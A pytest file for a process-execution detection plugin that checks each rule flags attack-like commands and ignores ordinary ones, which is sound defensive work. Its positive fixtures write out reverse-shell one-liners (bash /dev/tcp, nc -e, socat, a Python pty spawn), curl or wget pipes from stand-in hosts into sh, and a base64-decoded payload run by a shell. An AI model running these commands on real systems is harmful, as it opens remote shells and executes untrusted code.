"""suspicious_exec, run in a real worker: each rule's true positives and true negatives."""

from __future__ import annotations

from pathlib import Path

import pytest

from agent_host.testing import exec_event, run_plugin

PLUGIN = Path(__file__).resolve().parents[2] / "agent_host" / "plugins" / "suspicious_exec"

POSITIVES = [
    (exec_event("/tmp/.x/miner", "-o", "pool:3333"), "exec_from_writable_dir", ["T1036"]),
    (exec_event("/dev/shm/kworker"), "exec_from_writable_dir", ["T1036"]),
    (
        exec_event("/usr/bin/bash", "-c", "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1"),
        "reverse_shell",
        ["T1059.004"],
    ),
    (
        exec_event("/usr/bin/nc", "-e", "/bin/sh", "10.1.2.3", "4444"),
        "reverse_shell",
        ["T1059.004"],
    ),
    (
        exec_event("/usr/bin/socat", "tcp:10.1.2.3:4444", "exec:/bin/sh"),
        "reverse_shell",
        ["T1059.004"],
    ),
    (
        exec_event(
            "/usr/bin/python3",
            "-c",
            "import socket,os,pty;s=socket.socket();"
            "s.connect(('10.1.2.3',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
        ),
        "reverse_shell",
        ["T1059.004"],
    ),
    (
        exec_event("/usr/bin/sh", "-c", "curl -fsSL https://evil.example/i.sh | sh"),
        "download_and_execute",
        ["T1105", "T1059.004"],
    ),
    (
        exec_event("/usr/bin/bash", "-c", "wget -qO- http://x.example/a | sudo bash"),
        "download_and_execute",
        ["T1105", "T1059.004"],
    ),
    (
        exec_event("/usr/bin/sh", "-c", "id", parent="/usr/sbin/nginx"),
        "shell_from_network_service",
        ["T1505.003"],
    ),
    (
        exec_event("/usr/bin/bash", parent="/usr/sbin/php-fpm"),
        "shell_from_network_service",
        ["T1505.003"],
    ),
    (
        exec_event("/usr/bin/sh", "-c", "echo ZWNobyBoaQ== | base64 -d | sh"),
        "base64_payload_to_shell",
        ["T1140", "T1059.004"],
    ),
]
NEGATIVES = [
    exec_event("/usr/bin/ls", "-la", "/tmp"),
    exec_event("/usr/bin/curl", "-o", "/tmp/file.tar.gz", "https://example.org/file.tar.gz"),
    exec_event("/usr/bin/base64", "-d", "input.b64"),
    exec_event("/usr/bin/bash", "-c", "cat /dev/null"),
    exec_event("/usr/bin/nc", "-z", "localhost", "22"),
    exec_event("/usr/bin/sh", "-c", "make", parent="/usr/bin/bash"),
    exec_event("/usr/sbin/nginx", "-g", "daemon off;", parent="/usr/lib/systemd/systemd"),
    exec_event("/usr/bin/python3", "-m", "http.server"),
]


class TestSuspiciousExec:
    """Every rule fires on what it is about, and on nothing ordinary."""

    def test_true_positives(self) -> None:
        run = run_plugin(PLUGIN, [event for event, _, _ in POSITIVES])
        assert run.state == "stopped"
        for position, (_, rule, techniques) in enumerate(POSITIVES, 1):
            findings = run.for_event(position)
            assert [f.rule for f in findings] == [rule], (position, findings)
            assert list(findings[0].techniques) == techniques
        assert run.stats.errors == 0

    def test_true_negatives(self) -> None:
        run = run_plugin(PLUGIN, NEGATIVES)
        assert run.findings == []
        assert run.stats.processed == len(NEGATIVES)

    @pytest.mark.parametrize("action", ["EXIT"])
    def test_only_starts_count(self, action: str) -> None:
        event = exec_event("/tmp/x")
        event.process.action = event.process.Action.Value(action)
        assert run_plugin(PLUGIN, [event]).findings == []
